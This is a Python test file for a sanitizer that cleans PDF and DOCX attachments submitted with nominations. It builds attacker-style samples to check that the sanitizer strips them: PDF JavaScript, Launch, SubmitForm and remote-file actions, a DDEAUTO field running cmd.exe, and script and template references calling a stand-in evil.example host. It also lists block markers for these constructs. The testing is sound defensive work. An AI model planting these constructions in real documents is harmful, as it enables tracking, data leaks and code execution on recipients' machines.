"""Attachments a nominee made to call home or run code come out of sanitizing inert: each kind of PDF
action, form script and embedded file, and each kind of DOCX external reference, import, object,
frame, control, macro and fetching field, built here the way an attacker would build it."""

from __future__ import annotations

import io
import zipfile

import docx
import pikepdf
import pytest

from judging.nominations.attachments import AttachmentError, sanitize

EVIL = "http://evil.example/track"
UNC = "\\\\evil.example\\share\\x.dotm"


def _base_pdf() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    return pdf


def _bytes(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _link(pdf: pikepdf.Pdf, action: dict) -> None:
    annot = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                                 Rect=[0, 0, 100, 100], A=pikepdf.Dictionary(action)))
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annot]))


def _js(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('x')"))


def _annotation_js(pdf):
    _link(pdf, {"/S": pikepdf.Name.JavaScript, "/JS": pikepdf.String("this.submitForm('x')")})


def _uri(pdf):
    _link(pdf, {"/S": pikepdf.Name.URI, "/URI": pikepdf.String(EVIL)})


def _launch(pdf):
    _link(pdf, {"/S": pikepdf.Name.Launch, "/F": pikepdf.String("cmd.exe")})


def _submit(pdf):
    _link(pdf, {"/S": pikepdf.Name.SubmitForm, "/F": pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String(EVIL))})


def _gotor(pdf):
    _link(pdf, {"/S": pikepdf.Name.GoToR, "/F": pikepdf.String(UNC), "/D": pikepdf.Array([0, pikepdf.Name.Fit])})


def _page_aa(pdf):
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("1")))


def _acroform(pdf):
    field = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T=pikepdf.String("f"),
        Rect=[0, 0, 50, 20], AA=pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                                        JS=pikepdf.String("app.alert(1)")))))
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([field]))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))


def _embedded(pdf):
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ payload", mime_type="application/octet-stream")


def _file_annotation(pdf):
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ payload").obj
    annot = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
                                                 Rect=[0, 0, 10, 10], FS=spec))
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annot]))


PDF_ATTACKS = {"document JavaScript": _js, "annotation JavaScript": _annotation_js, "URI": _uri, "Launch": _launch,
               "SubmitForm": _submit, "GoToR": _gotor, "page open action": _page_aa, "AcroForm script": _acroform,
               "embedded file": _embedded, "file attachment annotation": _file_annotation}
FORBIDDEN_PDF = {"/JS", "/JavaScript", "/URI", "/Launch", "/SubmitForm", "/GoToR", "/AcroForm", "/OpenAction",
                 "/EmbeddedFile", "/EmbeddedFiles", "/FileAttachment", "/AA", "/Widget"}


def _pdf_names(data: bytes) -> set[str]:
    """Every dictionary key and name value in every object of the PDF."""
    found: set[str] = set()

    def walk(obj, depth=0):
        if depth > 20:
            return
        if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
            for key in obj.keys():
                found.add(str(key))
                value = obj.get(key)
                if isinstance(value, pikepdf.Name):
                    found.add(str(value))
                elif not (isinstance(value, (pikepdf.Dictionary, pikepdf.Stream, pikepdf.Array)) and value.is_indirect):
                    walk(value, depth + 1)
        elif isinstance(obj, pikepdf.Array):
            for item in obj:
                if isinstance(item, pikepdf.Name):
                    found.add(str(item))
                elif not getattr(item, "is_indirect", False):
                    walk(item, depth + 1)

    with pikepdf.open(io.BytesIO(data)) as pdf:
        for obj in pdf.objects:
            walk(obj)
    return found


@pytest.mark.parametrize("attack", sorted(PDF_ATTACKS))
def test_pdf_active_content_is_removed(attack):
    pdf = _base_pdf()
    PDF_ATTACKS[attack](pdf)
    data = _bytes(pdf)
    assert _pdf_names(data) & FORBIDDEN_PDF, "the attack was not built"
    clean = sanitize(data, "申报书.pdf")
    assert not _pdf_names(clean.data) & FORBIDDEN_PDF
    assert EVIL.encode() not in clean.data and b"payload" not in clean.data
    assert clean.removed  # the organizer's review lists what went


def test_encrypted_pdf_is_refused_with_the_reason():
    out = io.BytesIO()
    _base_pdf().save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    with pytest.raises(AttachmentError, match="password-protected"):
        sanitize(out.getvalue(), "加密.pdf")


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _docx_parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _rebuild(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _base_docx() -> dict[str, bytes]:
    document = docx.Document()
    document.add_paragraph("装置说明")
    out = io.BytesIO()
    document.save(out)
    return _docx_parts(out.getvalue())


def _add_rel(parts, source_rels: str, rel_id: str, kind: str, target: str, external: bool = True) -> None:
    mode = ' TargetMode="External"' if external else ""
    xml = parts.get(source_rels, f'<?xml version="1.0"?><Relationships xmlns="{REL.replace("officeDocument/2006/relationships", "package/2006/relationships")}"></Relationships>'.encode())
    parts[source_rels] = xml.replace(b"</Relationships>", f'<Relationship Id="{rel_id}" Type="{REL}/{kind}" '
                                                         f'Target="{target}"{mode}/></Relationships>'.encode())


def _in_body(parts, xml: str) -> None:
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)


def _hyperlink(parts):
    _add_rel(parts, "word/_rels/document.xml.rels", "rEvil1", "hyperlink", EVIL)
    _in_body(parts, f'<w:p><w:hyperlink r:id="rEvil1"><w:r><w:t>详见</w:t></w:r></w:hyperlink></w:p>')


def _remote_image(parts):
    _add_rel(parts, "word/_rels/document.xml.rels", "rEvil2", "image", EVIL + ".png")
    _in_body(parts, '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
                    'r:id="rEvil2"/></v:shape></w:pict></w:r></w:p>')


def _attached_template(parts):
    _add_rel(parts, "word/_rels/settings.xml.rels", "rEvil3", "attachedTemplate", "file:///" + UNC)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", f'<w:attachedTemplate xmlns:r="{R}" r:id="rEvil3"/></w:settings>'.encode())


def _content_type(parts, extension: str, kind: str) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", f'<Default Extension="{extension}" ContentType="{kind}"/></Types>'.encode())


def _alt_chunk(parts):
    _content_type(parts, "mht", "message/rfc822")
    parts["word/afchunk.mht"] = b"MIME-Version: 1.0\r\n\r\n<script>fetch('" + EVIL.encode() + b"')</script>"
    _add_rel(parts, "word/_rels/document.xml.rels", "rEvil4", "aFChunk", "afchunk.mht", external=False)
    _in_body(parts, '<w:altChunk r:id="rEvil4"/>')


def _ole(parts):
    _content_type(parts, "bin", "application/vnd.openxmlformats-officedocument.oleObject")
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 payload"
    _add_rel(parts, "word/_rels/document.xml.rels", "rEvil5", "oleObject", "embeddings/oleObject1.bin",
             external=False)
    _in_body(parts, '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
                    'ProgID="Package" r:id="rEvil5"/></w:object></w:r></w:p>')


def _frame(parts):
    _add_rel(parts, "word/_rels/webSettings.xml.rels", "rEvil6", "frame", EVIL)
    parts["word/webSettings.xml"] = parts["word/webSettings.xml"].replace(
        b"</w:webSettings>", f'<w:frameset><w:frame><w:sourceFileName xmlns:r="{R}" r:id="rEvil6"/></w:frame>'
                             f'</w:frameset></w:webSettings>'.encode())


def _include_picture(parts):
    _in_body(parts, f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "{EVIL}" '
                    '\\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _dde(parts):
    _in_body(parts, '<w:p><w:fldSimple w:instr=\' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"\'>'
                    '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')


def _activex(parts):
    parts["word/activeX/activeX1.xml"] = b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://x"/>'
    _add_rel(parts, "word/_rels/document.xml.rels", "rEvil7", "control", "activeX/activeX1.xml", external=False)
    _in_body(parts, '<w:p><w:r><w:object><w:control r:id="rEvil7" w:name="c"/></w:object></w:r></w:p>')


DOCX_ATTACKS = {"external hyperlink": _hyperlink, "remote image": _remote_image,
                "attachedTemplate": _attached_template, "altChunk": _alt_chunk, "OLE object": _ole, "frame": _frame,
                "INCLUDEPICTURE field": _include_picture, "DDEAUTO field": _dde, "ActiveX control": _activex}
FORBIDDEN_DOCX = [b'TargetMode="External"', EVIL.encode(), b"evil.example", b"attachedTemplate", b"altChunk",
                  b"OLEObject", b"oleObject", b"w:control", b"frameset", b"INCLUDEPICTURE", b"DDEAUTO", b"activeX",
                  b"afchunk"]


@pytest.mark.parametrize("attack", sorted(DOCX_ATTACKS))
def test_docx_active_content_is_removed(attack):
    parts = _base_docx()
    DOCX_ATTACKS[attack](parts)
    data = _rebuild(parts)
    assert any(marker in content for content in _docx_parts(data).values() for marker in FORBIDDEN_DOCX)
    clean = sanitize(data, "说明.docx")
    left = [(name, marker) for name, content in _docx_parts(clean.data).items() for marker in FORBIDDEN_DOCX
            if marker in content or marker.decode() in name]
    assert left == []
    assert clean.removed
    assert "装置说明" in docx.Document(io.BytesIO(clean.data)).paragraphs[0].text  # still a Word file that opens


def test_macro_document_and_corrupt_docx_are_refused_with_the_reason():
    parts = _base_docx()
    parts["word/vbaProject.bin"] = b"macro"
    with pytest.raises(AttachmentError, match="macros"):
        sanitize(_rebuild(parts), "宏.docx")
    broken = _base_docx()
    broken["word/document.xml"] = b"<w:document not xml"
    with pytest.raises(AttachmentError, match="damaged"):
        sanitize(_rebuild(broken), "坏.docx")
    with pytest.raises(AttachmentError, match="Only PDF"):
        sanitize(b"MZ\x90\x00 program", "程序.pdf")
